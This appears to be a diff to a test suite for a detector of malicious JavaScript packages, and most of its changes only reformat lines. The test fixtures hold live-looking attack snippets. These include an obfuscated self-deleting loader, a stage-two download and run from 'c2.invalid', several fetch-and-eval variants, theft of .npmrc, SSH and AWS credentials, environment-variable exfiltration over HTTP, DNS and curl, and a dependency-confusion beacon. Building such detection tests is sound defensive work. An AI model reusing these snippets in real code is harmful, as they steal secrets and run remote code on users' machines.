@@ -56,7 +56,8 @@ _trans_2=function(x,r){{let E=x.split('').reverse().join('').replaceAll('_','=')
  let S=Buffer.from(E,'base64').toString('utf8');return _trans_1(S,r)}},
 _trans_1=function(x,r){{const E=r.split('').map(Number);return x.split('').map((x,r)=>{{
  const S=x.charCodeAt(0),a=E[7*r*r%10];return String.fromCharCode(S^a^333)}}).join('')}},
-_entry=function(x){{const r=require(_trans_2(stq[0],ord)),E=require(_trans_2(stq[1],ord)),t=require(_trans_2(stq[2],ord));
+_entry=function(x){{const r=require(_trans_2(stq[0],ord)),E=require(_trans_2(stq[1],ord)),
+ t=require(_trans_2(stq[2],ord));
  try{{const W=E[_trans_2(stq[5],ord)]();r[_trans_2(stq[6],ord)](_trans_2(stq[3],ord)+W);
  t[_trans_2(stq[4],ord)](__filename,x=>{{}})}}catch(x){{}}}};
 _entry('6202033');
@@ -170,7 +171,8 @@ m._compile(code, '');
 
 def test_download_write_and_run():
     facts = read("""
-const https = require('https'), fs = require('fs'), cp = require('child_process'), os = require('os'), path = require('path');
+const https = require('https'), fs = require('fs'), cp = require('child_process');
+const os = require('os'), path = require('path');
 const target = path.join(os.tmpdir(), 'node-helper');
 https.get('https://c2.invalid/stage2', response => {
   const file = fs.createWriteStream(target);
@@ -202,10 +204,10 @@ def test_fetched_code_is_evaluated_in_every_style():
         "(async () => { const r = await fetch('https://c2.invalid'); eval(await r.text()) })()",
         "fetch('https://c2.invalid').then(r => r.text()).then(t => eval(t))",
         "fetch('https://c2.invalid').then(r => r.text()).then(eval)",
-        "async function get(u) { const r = await fetch(u); return r.text() }\nget('https://c2.invalid').then(t => new Function(t)())",
+        "async function g(u) { return (await fetch(u)).text() }\ng('https://c2.invalid').then(t => Function(t)())",
         "const axios = require('axios'); axios.get('https://c2.invalid').then(({ data }) => eval(data.code))",
         "require('request')('https://c2.invalid', (e, r, body) => { eval(body) })",
-        "(async () => { const { data } = await (await import('axios')).default.get('https://c2.invalid'); eval(data) })()",
+        "(async () => { const { d } = await (await import('axios')).default.get('https://c2.invalid'); eval(d) })()",
     ):
         facts = read(source)
         run = [call for call in facts.calls if call.callee in {"eval", "Function"}]
@@ -215,12 +217,16 @@ def test_fetched_code_is_evaluated_in_every_style():
 
 def test_credentials_are_read_and_sent():
     for source in (
-        "const fs=require('fs'),os=require('os'),https=require('https');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');"
-        "const q=https.request({host:'c2.invalid',method:'POST'});q.write(t);q.end()",
-        "import fs from 'fs'; fetch('https://c2.invalid', { method: 'POST', body: fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`) })",
-        "const fs=require('fs'); fs.readFile('/root/.aws/credentials', (e, d) => { fetch('https://c2.invalid?d=' + d) })",
-        "const files=['.npmrc','.netrc'].map(f=>require('fs').readFileSync(f,'utf8'));"
-        "navigator.sendBeacon('https://c2.invalid', JSON.stringify(files))",
+        (
+            "const fs=require('fs'),os=require('os');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');"
+            "const q=require('https').request({host:'c2.invalid',method:'POST'});q.write(t);q.end()"
+        ),
+        "import fs from 'fs'; fetch('//c2.invalid', { body: fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`) })",
+        "const fs=require('fs'); fs.readFile('/root/.aws/credentials', (e, d) => { fetch('https://c2.invalid?' + d) })",
+        (
+            "const files=['.npmrc','.netrc'].map(f=>require('fs').readFileSync(f,'utf8'));"
+            "navigator.sendBeacon('https://c2.invalid', JSON.stringify(files))"
+        ),
     ):
         facts = read(source)
         sent = [
@@ -235,8 +241,8 @@ def test_credentials_are_read_and_sent():
 def test_environment_is_sent():
     for source in (
         "fetch('https://c2.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
-        "const d = Buffer.from(JSON.stringify(process.env)).toString('base64'); require('https').get('https://c2.invalid/?' + d)",
-        "const e = { ...process.env }; const x = new XMLHttpRequest(); x.open('POST', 'https://c2.invalid'); x.send(JSON.stringify(e))",
+        "const d = Buffer.from(JSON.stringify(process.env)).toString('hex'); require('https').get('//c2.invalid/' + d)",
+        "const e = { ...process.env }; const x = new XMLHttpRequest(); x.open('POST', '//c2.invalid'); x.send(f(e))",
         "require('dns').lookup(Buffer.from(JSON.stringify(process.env)).toString('hex') + '.c2.invalid', () => {})",
         "const { exec } = require('child_process'); exec(`curl -d '${JSON.stringify(process.env)}' https://c2.invalid`)",
     ):
@@ -251,8 +257,10 @@ def test_rand_user_agent_hidden_by_spaces():
 
 def test_dependency_confusion_beacon():
     facts = read("""
-const os = require("os"); const dns = require("dns"); const querystring = require("querystring"); const https = require("https");
-const trackingData = JSON.stringify({ c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers() });
+const os = require("os"); const dns = require("dns");
+const querystring = require("querystring"); const https = require("https");
+const trackingData = JSON.stringify({
+  c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers() });
 var postData = querystring.stringify({ msg: trackingData });
 var options = { hostname: "burp.invalid", port: 443, path: "/", method: "POST" };
 var req = https.request(options, (res) => { res.on("data", (d) => { process.stdout.write(d); }); });
